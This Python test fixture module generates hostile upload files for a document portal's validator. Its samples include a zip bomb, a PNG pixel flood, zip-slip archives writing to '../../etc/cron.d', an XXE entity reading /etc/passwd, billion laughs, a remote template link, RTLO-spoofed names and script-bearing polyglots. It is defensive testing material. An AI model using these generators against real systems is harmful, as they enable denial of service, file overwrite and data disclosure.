"""Files that must not be kept, made on the fly: each as (name, bytes)."""

import io
import struct
import zipfile
import zlib

from PIL import Image

from best_portal.files.kinds import DOCX, ODT, XLSX

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TYPES = b'<Types><Override ContentType="application/xml"/></Types>'
PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
CORES = {"docx": DOCX.core, "xlsx": XLSX.core}


def archive(parts, compression=zipfile.ZIP_DEFLATED):
    """The bytes of a zip file with these (name, content)."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as target:
        for name, content in parts:
            target.writestr(name, content)
    return file.getvalue()


def office(ending="docx", *more, types=TYPES, core=b"<document/>"):
    """A Word or Excel file with these further parts."""
    return archive([("[Content_Types].xml", types), (CORES[ending], core), *more])


def open_document(*more, kind=ODT, content=b"<content/>"):
    parts = [("mimetype", kind.media_type), ("content.xml", content), *more]
    return archive(parts, zipfile.ZIP_STORED)


def picture(form="PNG", size=(8, 6), **options):
    file = io.BytesIO()
    Image.new("RGB", size, "teal").save(file, form, **options)
    return file.getvalue()


def flood(width, height):
    """A PNG of a few kilobytes that unpacks to hundreds of megabytes."""

    def chunk(name, content):
        checksum = zlib.crc32(name + content)
        return struct.pack("!I", len(content)) + name + content + struct.pack("!I", checksum)

    packer, rows = zlib.compressobj(9), b""
    for _row in range(0, height, 100):
        rows += packer.compress(bytes(100 * (1 + width // 8)))
    head = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)
    parts = [(b"IHDR", head), (b"IDAT", rows + packer.flush()), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*part) for part in parts)


def bomb():
    """An archive of 100 kB whose one part unpacks to 100 MB."""
    return office("docx", ("word/media/image1.emf", bytes(100 * 1024 * 1024)))


def encrypted():
    content = bytearray(office())
    place = content.find(b"PK\x01\x02")
    content[place + 8] |= 1  # the flag of the first entry
    return bytes(content)


def rels(target, kind="attachedTemplate"):
    return (
        f'<Relationships><Relationship Type="http://x/{kind}" Target="{target}"/></Relationships>'
    )


TURNED = "<R><Relationship Target='https://feind.invalid/x' Type='http://x/attachedTemplate'/></R>"
XXE = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><document>&b;</document>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
PASSWORD = '<manifest><file-entry><encryption-data checksum="x"/></file-entry></manifest>'


def hostile_files():
    """Name of the attack → (name of the file, bytes)."""
    return {
        "nothing": ("leer.pdf", b""),
        "pixel flood": ("flut.png", flood(20_000, 20_000)),
        "pixel flood below the library's own limit": ("flut.png", flood(9_000, 9_000)),
        "zip bomb": ("bombe.docx", bomb()),
        "thousands of parts": (
            "teile.docx",
            office("docx", *((f"{n}.bin", b"") for n in range(999))),
        ),
        "zip slip": ("pfad.docx", office("docx", ("../../etc/cron.d/x", b"x"))),
        "zip slip in the other direction": ("pfad.docx", office("docx", ("..\\..\\x.ini", b"x"))),
        "absolute path": ("pfad.xlsx", office("xlsx", ("/etc/passwd", b"x"))),
        "drive": ("pfad.xlsx", office("xlsx", ("C:x.ini", b"x"))),
        "external entity": ("xxe.docx", office(core=XXE)),
        "external entity in UTF-16": ("xxe.docx", office(core=XXE.decode().encode("utf-16"))),
        "a billion laughs": ("lachen.odt", open_document(content=LAUGHS)),
        "macros": ("makro.docx", office("docx", ("word/vbaProject.bin", b"x"))),
        "macros by their type": (
            "makro.xlsx",
            office("xlsx", types=b"<Types>x.macroEnabled.main</Types>"),
        ),
        "macros by their ending": ("makro.docm", office()),
        "Basic": ("makro.odt", open_document(("Basic/Standard/x.xml", b"<x/>"))),
        "a program packed in": ("programm.docx", office("docx", ("word/embeddings/x.exe", b"MZ"))),
        "a template from elsewhere": (
            "vorlage.docx",
            office("docx", ("word/_rels/settings.xml.rels", rels("https://feind.invalid/x.dotm"))),
        ),
        "a template from elsewhere, told the other way round": (
            "vorlage.docx",
            office("docx", ("word/_rels/settings.xml.rels", TURNED)),
        ),
        "an object from a server": (
            "objekt.docx",
            office("docx", ("word/_rels/document.xml.rels", rels(r"\\feind\x", "oleObject"))),
        ),
        "a password": ("geheim.docx", encrypted()),
        "a password of an open document": (
            "geheim.odt",
            open_document(("META-INF/manifest.xml", PASSWORD)),
        ),
        "an old Office file": ("alt.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
        "another archive": ("archiv.docx", archive([("brief.txt", b"x")])),
        "an archive under its own name": ("archiv.zip", archive([("brief.txt", b"x")])),
        "a program": ("programm.exe", b"MZ" + bytes(200)),
        "a program called text": ("programm.txt", b"MZ" + bytes(200)),
        "a program called PDF": ("programm.pdf", b"MZ" + bytes(200)),
        "two endings": ("rechnung.pdf.exe", PDF),
        "two endings the other way": ("rechnung.exe.pdf", PDF),
        "a name that reads backwards": ("rechnung\u202efdp.exe", PDF),
        "a page": ("seite.html", b"<html><script>alert(1)</script>"),
        "a page called text": ("seite.txt", b"  <!DOCTYPE html><script>alert(1)</script>"),
        "a drawing that acts": (
            "bild.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
        ),
        "a drawing called picture": ("bild.png", b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
        "a picture called PDF": ("bild.pdf", picture()),
        "a PDF called picture": ("bild.jpg", PDF),
        "PDF and archive in one": ("beides.pdf", PDF + archive([("x.txt", b"x")])),
        "picture and archive in one": ("beides.png", picture() + archive([("x.txt", b"x")])),
        "archive behind a page": ("beides.docx", b"<script>x()</script>" + office()),
        "a PDF behind a page": ("beides.pdf", b"<script>x()</script>" + PDF),
        "a PDF cut off": ("halb.pdf", PDF[:20] + bytes(3000)),
        "a picture cut off": ("halb.jpg", picture("JPEG", (800, 600))[:900]),
        "a damaged archive": ("kaputt.xlsx", office("xlsx")[:-30]),
        "more than 20 MB": ("gross.txt", b"x" * (20 * 1024 * 1024 + 1)),
    }
